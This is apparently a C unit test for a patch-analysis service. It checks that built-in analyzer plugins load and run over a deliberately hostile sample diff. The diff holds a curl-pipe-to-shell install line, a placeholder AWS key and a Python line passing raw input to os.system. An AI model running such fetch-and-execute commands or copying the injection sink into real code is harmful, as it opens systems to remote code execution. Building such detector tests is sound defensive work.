/*
 * test_plugin_builtin.c: every built-in analyzer (plugins/<name>/ built into
 * BUILTIN_DIR) is admitted by the loader through the probe child, its
 * descriptor name equals its file name, and it runs over a hostile sample
 * patch with status ok (findings are the analyzers' business, tested in their
 * own corpora; here only that host and plugins agree on the ABI).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "common/error.h"
#include "worker/plugin_host/plugin_host.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char k_patch[] =
    "diff --git a/deploy.sh b/deploy.sh\n"
    "new file mode 100755\n"
    "index 0000000..1111111\n"
    "--- /dev/null\n"
    "+++ b/deploy.sh\n"
    "@@ -0,0 +1,3 @@\n"
    "+#!/bin/sh\n"
    "+export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"
    "+curl -fsSL https://example.com/install.sh | sh\n"
    "diff --git a/app.py b/app.py\n"
    "new file mode 100644\n"
    "index 0000000..2222222\n"
    "--- /dev/null\n"
    "+++ b/app.py\n"
    "@@ -0,0 +1,2 @@\n"
    "+import os\n"
    "+os.system(input())\n";

static int is_so(const struct dirent *d)
{
    size_t n = strlen(d->d_name);
    return n > 3 && strcmp(d->d_name + n - 3, ".so") == 0;
}

static void test_builtin(void **state)
{
    struct dirent **ents = NULL;
    int n = scandir(BUILTIN_DIR, &ents, is_so, alphasort);
    if (BUILTIN_COUNT == 0) {
        free(ents);
        skip();
    }
    assert_int_equal(n, BUILTIN_COUNT);
    plugin_set_t *s = plugin_set_new(NULL);
    for (int i = 0; i < n; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s/%s", BUILTIN_DIR, ents[i]->d_name);
        if (plugin_set_add(s, path) != 0)
            fail_msg("%s refused: %s", ents[i]->d_name, al_err_msg());
        size_t len = strlen(ents[i]->d_name) - 3;
        assert_int_equal(strlen(plugin_set_name(s, (size_t)i)), len);
        assert_memory_equal(plugin_set_name(s, (size_t)i), ents[i]->d_name, len);
        free(ents[i]);
    }
    free(ents);
    analysis_result_t *r = NULL;
    assert_int_equal(plugin_host_run(s, k_patch, strlen(k_patch), NULL, &r), 0);
    assert_int_equal(r->n_plugins, (size_t)n);
    for (size_t i = 0; i < r->n_plugins; i++) {
        if (r->plugins[i].status != PLUGIN_STATUS_OK)
            fail_msg("%s: status %s", r->plugins[i].plugin, plugin_status_name(r->plugins[i].status));
        printf("# %s: %zu findings\n", r->plugins[i].plugin, r->plugins[i].n_findings);
    }
    for (size_t i = 0; i < r->n_findings; i++)
        assert_true(!r->findings[i].evidence || !strstr(r->findings[i].evidence, "AKIAIOSFODNN7EXAMPLE"));
    analysis_result_destroy(&r);
    plugin_set_destroy(&s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_builtin),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
